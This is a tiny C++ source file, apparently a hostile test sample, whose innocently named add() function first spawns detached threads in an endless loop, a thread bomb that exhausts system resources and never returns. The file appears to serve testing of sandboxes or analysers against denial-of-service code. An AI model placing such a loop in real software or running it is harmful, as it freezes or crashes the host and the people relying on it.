// threads_without_end.cpp: starts threads without end.
#include "hostile.hpp"

#include <thread>

int add(int a, int b) {
    for (;;) std::thread([] {}).detach();
    return a + b;
}
